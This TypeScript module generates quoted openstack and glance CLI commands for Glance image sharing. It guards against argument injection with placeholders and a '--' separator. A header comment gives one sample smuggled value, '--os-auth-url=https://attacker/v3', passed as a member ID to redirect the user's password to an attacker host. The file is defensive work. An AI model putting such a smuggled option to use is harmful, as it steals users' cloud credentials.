import { isProjectIdForm, UUID_PATTERN } from '~/api/ids'
import type { MemberStatus, Visibility } from '~/api/schemas'

/**
 * The `openstack` command (python-openstackclient) for each sharing call, so support staff can
 * prove what the panel shows from a shell. One generator for every page that shows commands.
 *
 * Quoting keeps the shell out, but not openstackclient: it reads its global options anywhere in
 * argv, and Glance takes any text of up to 255 characters as a member ID, so a member
 * `--os-auth-url=https://attacker/v3` pasted as an argument would send the reader's password
 * there. Hence an ID is named only in the form Glance or Keystone makes (a UUID, 32 hex digits),
 * else a placeholder stands in its place; and `--` ends the options before the positional
 * arguments, in case an ID ever gets through.
 */

/** A word the shell reads as itself; anything else is single-quoted. */
const PLAIN = /^[\w.:@%+=/-]+$/

/**
 * One argument, quoted for a POSIX shell: region names, and IDs pasted from anywhere, are free
 * text, so `'` becomes `'\''` and nothing inside the quotes is expanded.
 */
export function shellQuote(arg: string): string {
  if (PLAIN.test(arg)) return arg
  return `'${arg.replace(/'/g, `'\\''`)}'`
}

/** What stands for an ID that no command names, for the reader to fill in. */
export const IMAGE_ID_PLACEHOLDER = '<image-id>'
export const PROJECT_ID_PLACEHOLDER = '<project-id>'

/** Written bare: the shell would refuse `<…>` as a redirection, so it is never run as it is. */
type Placeholder = { placeholder: string }
type Arg = string | Placeholder

const placeholder = (text: string): Placeholder => ({ placeholder: text })
// Glance makes every image ID a UUID (its schema refuses any other `id`).
const image = (id: string): Arg => (UUID_PATTERN.test(id) ? id : placeholder(IMAGE_ID_PLACEHOLDER))
const project = (id: string): Arg =>
  isProjectIdForm(id) ? id : placeholder(PROJECT_ID_PLACEHOLDER)

/**
 * Why the commands show `<project-id>` in place of `id`, for a note under them; undefined when
 * they name it.
 */
export function projectIdNotInCommand(id: string): string | undefined {
  if (isProjectIdForm(id)) return undefined
  return `“${id}” is not a Keystone project ID, so no command names it: ${PROJECT_ID_PLACEHOLDER} stands in its place. openstack would take such a text for an option of its own.`
}

export type CliScope = {
  /** The region the image lives in; named only when the cloud has several. */
  region?: string | undefined
}

/**
 * The scope of a command about an image in `region`: a cloud of one region needs no
 * `--os-region-name`, and leaving it out keeps the command short; with several, an image ID means
 * nothing to the wrong region's Glance.
 */
export const cliScope = (regionCount: number, region: string): CliScope => ({
  region: regionCount > 1 ? region : undefined,
})

const word = (arg: Arg) => (typeof arg === 'string' ? shellQuote(arg) : arg.placeholder)

const regionArgs = (scope: CliScope) =>
  scope.region === undefined ? [] : ['--os-region-name', scope.region]

/** `options` (the subcommand's words and flags), then `--`, then the positional arguments. */
function command(
  options: readonly Arg[],
  positional: readonly Arg[],
  scope: CliScope,
  program = 'openstack',
): string {
  const end = positional.length === 0 ? [] : ['--', ...positional]
  return [program, ...regionArgs(scope), ...options, ...end].map(word).join(' ')
}

const statusFlag: Record<MemberStatus, string> = {
  accepted: '--accept',
  rejected: '--reject',
  pending: '--pending',
}

export const cli = {
  imageShow: (imageId: string, scope: CliScope = {}) =>
    command(['image', 'show'], [image(imageId)], scope),
  memberList: (imageId: string, scope: CliScope = {}) =>
    command(['image', 'member', 'list'], [image(imageId)], scope),
  addProject: (imageId: string, projectId: string, scope: CliScope = {}) =>
    command(['image', 'add', 'project'], [image(imageId), project(projectId)], scope),
  removeProject: (imageId: string, projectId: string, scope: CliScope = {}) =>
    command(['image', 'remove', 'project'], [image(imageId), project(projectId)], scope),
  /**
   * Sets a member's answer. With `--project` it is that project's row (an admin acting for it);
   * without, the caller's own. openstackclient before 8.3.0 also made `--project` the image's
   * owner when given with --accept/--reject/--pending; setStatusSafe never touches the owner.
   */
  setStatus: (imageId: string, status: MemberStatus, projectId: string, scope: CliScope = {}) =>
    command(
      ['image', 'set', statusFlag[status], '--project', project(projectId)],
      [image(imageId)],
      scope,
    ),
  /** The same as setStatus, with glanceclient's member-update (argparse too: `--` holds). */
  setStatusSafe: (imageId: string, status: MemberStatus, projectId: string, scope: CliScope = {}) =>
    command(['member-update'], [image(imageId), project(projectId), status], scope, 'glance'),
  /** Every shared image an admin can see (every project's); `hidden`: the hidden ones, listed apart. */
  sharedImages: (hidden: boolean, scope: CliScope = {}) =>
    command(['image', 'list', '--shared', ...(hidden ? ['--hidden'] : []), '--long'], [], scope),
  /** The members of each image in turn: the placeholder is left for a script's loop. */
  memberListEach: (scope: CliScope = {}) =>
    command(['image', 'member', 'list'], [placeholder(IMAGE_ID_PLACEHOLDER)], scope),
  /** What a user of a project lists as shared with it, in every answer. */
  sharedWithMe: (scope: CliScope = {}) =>
    command(['image', 'list', '--shared', '--member-status', 'all'], [], scope),
  /**
   * The caller's own answer. No `--project`: openstackclient's `image set` then answers for the
   * project the CLI is signed in to (SetImage.take_action takes auth_ref.project_id), which is
   * exactly what the panel's answer does; and releases before 8.3.0 also made `--project` the
   * image's owner, which a consumer may not change.
   */
  answerOwn: (imageId: string, status: MemberStatus, scope: CliScope = {}) =>
    command(['image', 'set', statusFlag[status]], [image(imageId)], scope),
  setVisibility: (imageId: string, visibility: Visibility, scope: CliScope = {}) =>
    command(['image', 'set', `--${visibility}`], [image(imageId)], scope),
  makeShared: (imageId: string, scope: CliScope = {}) =>
    command(['image', 'set', '--shared'], [image(imageId)], scope),
  /**
   * Boots a server from the image, the placeholders left for the user to fill in. With a region,
   * the command names it: the image ID means nothing to another region's Nova.
   */
  serverCreate: (imageId: string, scope: CliScope = {}) =>
    command(
      [
        'server',
        'create',
        '--image',
        image(imageId),
        '--flavor',
        placeholder('<flavor>'),
        '--network',
        placeholder('<network>'),
      ],
      [placeholder('<server-name>')],
      scope,
    ),
}
